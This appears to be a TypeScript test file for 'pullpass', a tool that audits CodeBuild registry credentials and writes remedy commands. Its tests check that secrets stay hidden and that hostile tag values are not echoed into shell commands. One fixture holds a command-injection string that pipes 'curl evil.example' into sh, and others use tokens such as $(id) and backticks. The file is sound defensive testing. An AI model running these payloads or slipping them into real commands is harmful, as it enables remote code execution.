import { isDeepStrictEqual } from "node:util";
import { expect, test } from "vitest";
import { rules } from "../../packages/core/src/diagnose/rules/index.ts";
import { ruleIds } from "../../packages/core/src/model/finding.ts";
import { remedyText } from "../../packages/core/src/notice/remedy-text.ts";
import { examples, planOf } from "./examples.ts";
import { given, planFor, project, secret, secretArn } from "./support.ts";

test.each(Object.entries(examples))(
  "%s is found, alone, and its subject counts as examined where it was",
  (id, example) => {
    const plan = planOf(example);
    expect(plan.findings.map(({ rule }) => rule)).toEqual([id]);
    const isExamined = plan.examined.some((subject) => isDeepStrictEqual(subject, plan.findings[0]?.subject));
    expect(isExamined).toBe(!id.endsWith("-unreadable"));
  },
);

test("there is a rule for every id, but that of an audit alone, and of a build's words", () => {
  const without = ruleIds.filter((id) => !rules.some((rule) => rule.id === id));
  expect(without.toSorted()).toEqual(["grant-unneeded", "pull-failed"]);
  expect(rules.map((rule) => rule.id)).toEqual(rules.map((rule) => rule.id).sort());
});

test("a finding never shows the value of a plaintext variable", () => {
  expect(JSON.stringify(planFor(worldOf("plaintext-credential")))).not.toContain("hunter2");
});

test("a command in a remedy repeats nothing from a tag that a shell would run", () => {
  const tags = { "pullpass/projects": "api '; curl evil.example | sh #" };
  const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
  const text = remedyText(planFor(world).findings[0]?.remedy ?? []);
  expect(text).toContain(`pullpass allow ${secretArn("registry/hub")} web `);
  expect(text).not.toContain("evil");
});

test("several projects of a role that wait for one secret have one remedy", () => {
  const projects = ["web", "api", "shop"].map((name) => project(name));
  const world = given({
    projects,
    secrets: [secret("registry/hub", { tags: { "pullpass/projects": "shop" } })],
  });
  const remedies = planFor(world).findings.map(({ remedy }) => remedyText(remedy));
  expect(remedies).toHaveLength(2);
  expect(new Set(remedies).size).toBe(1);
  expect(remedies[0]).toContain(`pullpass allow ${secretArn("registry/hub")} api web `);
});

test("no remedy names the project all, which would let every project in", () => {
  for (const tags of [{}, { "pullpass/projects": "web" }]) {
    const world = given({ projects: [project("all")], secrets: [secret("registry/hub", { tags })] });
    const text = remedyText(planFor(world).findings[0]?.remedy ?? []);
    expect(text).not.toContain("tag-resource");
    expect(text).toContain("give projects and secret the same tag pullpass/group");
  }
});

test("what a tag says by mistake is told, and no login in it", () => {
  const tags = { "pullpass/projects": "web,api me:hunter2 ghp_0123456789abcdefghijABCDEFGHIJ012345" };
  const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
  const evidence = JSON.stringify(planFor(world).findings[0]?.evidence);
  expect(evidence).toContain("web,api");
  expect(evidence).not.toContain("ghp_0123");
});

test.each(["$(id)x", "x$(id)", "`id`", "x;id", "x|id", "x'", "ü", "x\u202ey", "a,b"])(
  "nor does it repeat %j, in part or in whole",
  (token) => {
    const tags = { "pullpass/projects": `api  ${token}` };
    const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
    const text = remedyText(planFor(world).findings[0]?.remedy ?? []);
    expect(text).toContain(`pullpass allow ${secretArn("registry/hub")} web `);
    expect(text).not.toContain(token);
  },
);

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: a shell's variables
const variables = [
  { name: "DOCKER_PASSWORD", value: "hunter2", flagged: true },
  { name: "DOCKERHUB_PASS", value: "hunter2", flagged: true },
  { name: "REGISTRY_TOKEN", value: "hunter2", flagged: true },
  { name: "registryToken", value: "hunter2", flagged: true },
  { name: "CI-REGISTRY-PASSWORD", value: "hunter2", flagged: true },
  { name: "GHCR_PAT", value: "hunter2", flagged: true },
  { name: "DOCKER_AUTH_CONFIG", value: "{}", flagged: true },
  { name: "ARTIFACTORY_API_KEY", value: "hunter2", flagged: true },
  { name: "DOCKER_PASSWORD_2", value: "hunter2", flagged: true },
  { name: "ACR_PASSWORD", value: "hunter2", flagged: true },
  { name: "GCR_TOKEN", value: "hunter2", flagged: true },
  { name: "HARBOR_PASSWD", value: "hunter2", flagged: true },
  { name: "HUB_PW", value: "hunter2", flagged: true },
  { name: "IMAGE_PULL_SECRET", value: "hunter2", flagged: true },
  { name: "JFROG_TOKEN", value: "hunter2", flagged: true },
  { name: "NEXUS_PASSWORD", value: "hunter2", flagged: true },
  { name: "OCI_TOKEN", value: "hunter2", flagged: true },
  { name: "PULL_TOKEN", value: "hunter2", flagged: true },
  { name: "QUAY_TOKEN", value: "hunter2", flagged: true },
  { name: "DOCKER_PASSWORD", value: "$OTHER/more", flagged: true },
  { name: "DOCKER_PASSWORD", value: "", flagged: false },
  { name: "DOCKER_PASSWORD", value: "$OTHER", flagged: false },
  { name: "DOCKER_PASSWORD", value: "${OTHER}", flagged: false },
  { name: "DOCKER_PASSWORD", value: "$ecret", flagged: false },
  { name: "DOCKER_PASSWORD", value: "pa$$word", flagged: true },
  {
    name: "DOCKER_PASSWORD",
    value: "arn:aws:secretsmanager:eu-central-1:111122223333:secret:x-a1b2c3",
    flagged: false,
  },
  { name: "DOCKER_SECRET_ARN", value: "hunter2", flagged: false },
  { name: "DOCKER_TOKEN_FILE", value: "/run/token", flagged: false },
  { name: "DOCKER_USERNAME", value: "ann", flagged: false },
  { name: "DOCKER_CACHE_KEY", value: "abc", flagged: false },
  { name: "DATABASE_PASSWORD", value: "hunter2", flagged: false },
  { name: "GITHUB_TOKEN", value: "hunter2", flagged: false },
  { name: "THUMBNAIL", value: "hunter2", flagged: false },
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: a shell's variables

test.each(variables)(
  "a plaintext variable $name = $value is flagged: $flagged",
  ({ name, value, flagged }) => {
    const web = project("web", { credential: undefined, plaintextVariables: [{ name, value }] });
    const findings = planFor(given({ projects: [web] })).findings;
    expect(findings.map(({ rule }) => rule)).toEqual(flagged ? ["plaintext-credential"] : []);
  },
);

test("a registry's token is found in a variable of any name, and the value is not shown", () => {
  const value = `ghp_${"a1B2".repeat(10)}`;
  const web = project("web", { credential: undefined, plaintextVariables: [{ name: "THING", value }] });
  const { findings } = planFor(given({ projects: [web] }));
  expect(findings).toMatchObject([{ rule: "plaintext-credential", evidence: [["variables", "THING"]] }]);
  expect(JSON.stringify(findings)).not.toContain(value);
});

test("an authentication file is found in a variable of any name, and one without a login is none", () => {
  const found = (value: string) => {
    const plaintextVariables = [{ name: "DOCKER_CONFIG_JSON", value }];
    const web = project("web", { credential: undefined, plaintextVariables });
    const { findings } = planFor(given({ projects: [web] }));
    expect(JSON.stringify(findings)).not.toContain("bWU6");
    return findings.map(({ rule }) => rule);
  };
  expect(found('{"auths":{"ghcr.io":{"auth":"bWU6aHVudGVyMg=="}}}')).toEqual(["plaintext-credential"]);
  expect(found('{"auths":{"ghcr.io":{"username":"me","password":"hunter2"}}}')).toEqual([
    "plaintext-credential",
  ]);
  expect(found('{"auths":{"ghcr.io":{}},"credHelpers":{"ghcr.io":"ecr-login"}}')).toEqual([]);
});

test("a login in the project's own buildspec is found, with the line and what to do", () => {
  const buildspecLeaks = [{ line: 5, what: "a login with its password in the command" }];
  const web = project("web", { credential: undefined, buildspecLeaks });
  const [finding] = planFor(given({ projects: [web] })).findings;
  expect(finding).toMatchObject({
    rule: "plaintext-credential",
    blocks: false,
    evidence: [["buildspec", "line 5: a login with its password in the command"]],
  });
  expect(finding?.remedy.at(-1)).toMatchObject({ text: expect.stringContaining("--password-stdin") });
});

test("variables are named once and in order, so that the finding changes only when they do", () => {
  const plaintextVariables = ["REGISTRY_TOKEN", "DOCKER_PASSWORD", "DOCKER_PASSWORD"].map((name) => ({
    name,
    value: "x",
  }));
  const web = project("web", { credential: undefined, plaintextVariables });
  expect(planFor(given({ projects: [web] })).findings[0]?.evidence).toEqual([
    ["variables", "DOCKER_PASSWORD, REGISTRY_TOKEN"],
  ]);
});

const hosts = [
  { image: "10.0.0.7:5000/acme/build:1", isPrivate: true },
  { image: "[fd00::1]:5000/acme/build", isPrivate: true },
  { image: "localhost/acme/build", isPrivate: true },
  { image: "registry.corp.internal/acme/build", isPrivate: true },
  { image: "registry.example.com/acme/build", isPrivate: false },
  { image: "acme/build", isPrivate: false },
];

test.each(hosts)(
  "$image is out of CodeBuild's reach: $isPrivate; the access is repaired all the same",
  ({ image, isPrivate }) => {
    const plan = planFor(given({ projects: [project("web", { image })], secrets: [secret("registry/hub")] }));
    expect(plan.findings.map(({ rule }) => rule)).toEqual(isPrivate ? ["registry-vpc-only"] : []);
    expect(plan.grants).toHaveLength(1);
    expect(plan.updates).toHaveLength(1);
  },
);

test("an image that names no registry gets nothing", () => {
  const plan = planFor(worldOf("image-malformed"));
  expect(plan).toMatchObject({ grants: [], changes: [], updates: [] });
});

test.each(["role-protected", "role-not-codebuild"] as const)(
  "%s concerns only roles that a secret's owner wants to have access",
  (id) => {
    const { world } = examples[id];
    const withoutConsent = { ...world, secrets: [secret("registry/hub", { tags: {} })] };
    expect(planFor(withoutConsent).findings.map(({ rule }) => rule)).toEqual(["secret-no-consent"]);
  },
);

test("findings come in the order of their rules, then of their subjects", () => {
  const bad = (name: string) =>
    project(name, { image: "10.0.0.7/x", plaintextVariables: [{ name: "DOCKER_PASSWORD", value: "x" }] });
  const plan = planFor(given({ projects: [bad("web"), bad("api")] }));
  expect(
    plan.findings.map(({ rule, subject }) => [rule, subject.kind === "project" && subject.name]),
  ).toEqual([
    ["plaintext-credential", "api"],
    ["plaintext-credential", "web"],
    ["registry-vpc-only", "api"],
    ["registry-vpc-only", "web"],
    ["secret-not-found", "api"],
    ["secret-not-found", "web"],
  ]);
});

function worldOf(id: keyof typeof examples) {
  return examples[id].world;
}
